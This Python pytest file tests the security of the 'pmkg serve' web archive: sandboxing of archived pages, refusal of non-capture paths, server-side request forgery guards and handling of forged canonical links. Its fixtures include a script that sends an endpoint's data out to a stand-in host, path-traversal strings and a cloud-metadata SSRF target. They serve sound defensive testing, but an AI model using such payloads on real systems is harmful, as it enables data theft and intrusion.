"""Issue 13: archived copies of other people's pages, served by a real ``pmkg serve`` on loopback.

An archived page is untrusted content served from the app's own origin: left
as it is, its scripts would run with the app's origin, read its pages and
call its endpoints, and its images would tell a tracker who reads it. Each
request below is sent exactly as written:

* ``GET /archive/<uuid>`` of a page with a script, a meta refresh and a
  tracking image answers 200 with ``Content-Security-Policy: sandbox;
  default-src 'none'; ...`` (a unique origin, no script, nothing loaded), no
  meta refresh, ``X-Frame-Options: DENY`` and the capture banner;
* paths that are not a capture id (traversal to the WARC index, a file name,
  an unknown uuid) answer 404, never a file of the store;
* a link in a public feed, or a redirect from a public page, that points at
  a loopback, private, link-local (cloud metadata) or unspecified address is
  refused before any connection (server-side request forgery: what pmkg read
  there would be archived and served to everyone);
* a page whose canonical link or og:url names another site's address is
  recorded at its own address, so it cannot replace another outlet's article.
"""

from __future__ import annotations

import pytest

from fetch_server import FixtureServer, article_html, page
from kg.fetch.archive import Archive
from kg.fetch.client import Fetcher
from kg.fetch.pages import ingest_urls
from kg.store import Store
from test_sec_web_small import _serve, request

EXPECTED_CSP = ("sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; "
                "form-action 'none'; frame-ancestors 'none'")
HOSTILE = article_html(2).replace(
    "</head>", "<meta http-equiv='Refresh' content='0;url=https://elsewhere.invalid/'>"
               "<script>fetch('/sparql?query=ASK{}').then(r=>r.text()).then(t=>new Image().src='https://x.invalid/?'+t)</script></head>")


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    path = tmp_path_factory.mktemp("sec-archive") / "store"
    Store.create(path).close()
    with FixtureServer() as srv:
        srv.routes["/hostile"] = page(HOSTILE)
        archive = Archive(path)
        with Store(path) as store, Fetcher(delay=0) as fetcher:
            ingest_urls(store, [srv.url("/hostile")], fetcher=fetcher, archive=archive)
        capture = archive.latest(srv.url("/hostile"))
        archive.close()
    process, port = _serve(path)
    yield port, capture
    process.terminate()
    process.wait(timeout=10)


def test_archived_page_is_sandboxed_without_scripts_or_refresh(served):
    port, capture = served
    status, headers, body = request(port, "GET", "/archive/" + capture.record_id.removeprefix("urn:uuid:"))
    assert status == 200
    assert headers["content-security-policy"] == EXPECTED_CSP
    assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff"
    assert headers["content-type"] == "text/html; charset=utf-8"
    html = body.decode("utf-8")
    assert 'id="pmkg-archive-banner"' in html and "captured by pmkg on " in html
    assert "Refresh" not in html


@pytest.mark.parametrize("path", ["/archive/..%2Fwarc%2Findex.sqlite", "/archive/index.sqlite",
                                  "/archive/%2e%2e/%2e%2e/pmkg.marker",
                                  "/archive/00000000-0000-4000-8000-000000000000"])
def test_only_capture_ids_are_served(served, path):
    status, _, body = request(served[0], "GET", path, {"Accept": "application/json"})
    assert status == 404
    assert b"SQLite format" not in body


# -- server-side request forgery: links and redirects chosen by others -------------------------

def test_a_feed_on_a_public_host_may_not_send_pmkg_to_a_private_one():
    """A public feed's item ``http://127.0.0.1:<port>/admin`` (or a cloud metadata address) is refused
    before any connection: checked by address, no network needed."""
    from kg.fetch.addresses import private_reason
    from kg.fetch.client import Fetcher, FetchError

    with FixtureServer() as srv:
        srv.routes["/admin"] = page(article_html(5))
        with Fetcher(delay=0) as fetcher:
            for link in (srv.url("/admin"), "http://169.254.169.254/latest/meta-data/", "http://[::1]:9/x",
                         "http://10.1.2.3/x", "http://0.0.0.0:9/x"):
                with pytest.raises(FetchError, match=r"refused: .* address .*not reached from a link"):
                    fetcher.get(link, public_only=True)
        assert srv.hits == []
    assert private_reason("http://93.184.216.34/feed") is None        # a public address literal


def test_a_feed_on_the_local_network_may_link_to_it(tmp_path):
    """The user chose a feed on 127.0.0.1: its items on 127.0.0.1 are read (what the other tests rely on)."""
    from kg.fetch.feeds import follow

    path = tmp_path / "store"
    Store.create(path).close()
    with FixtureServer() as srv:
        srv.routes["/a"] = page(article_html(6))
        srv.routes["/rss"] = page(f'<rss version="2.0"><channel><title>t</title><item><title>x</title>'
                                  f'<link>{srv.url("/a")}</link></item></channel></rss>',
                                  content_type="application/rss+xml")
        with Store(path) as store, Fetcher(delay=0) as fetcher:
            report = follow(store, path, [srv.url("/rss")], fetcher=fetcher)
    assert len(report.pages.ingested) == 1


# -- a page may not claim to be another outlet's article ----------------------------------------

def test_a_canonical_link_to_another_site_does_not_take_over_its_article(tmp_path):
    """A page at 127.0.0.1 whose canonical link and og:url name ``https://news.example.org/story``
    is recorded at its own address: else it would replace the graph of that outlet's article."""
    path = tmp_path / "store"
    Store.create(path).close()
    forged = article_html(7, canonical="https://news.example.org/story").replace(
        "</head>", '<meta property="og:url" content="https://news.example.org/story"></head>')
    with FixtureServer() as srv:
        srv.routes["/forged"] = page(forged)
        srv.routes["/own"] = page(article_html(8, canonical="/own-story"))
        archive = Archive(path)
        with Store(path) as store, Fetcher(delay=0) as fetcher:
            ingest_urls(store, [srv.url("/forged"), srv.url("/own")], fetcher=fetcher, archive=archive)
            rows = store.query("SELECT ?l WHERE { GRAPH ?g { ?a <https://w3id.org/pmkg/ontology#retrievedFrom> ?l } }")
            locations = sorted(row["l"].value for row in rows)
        archive.close()
        assert locations == [srv.url("/forged"), srv.url("/own-story")]
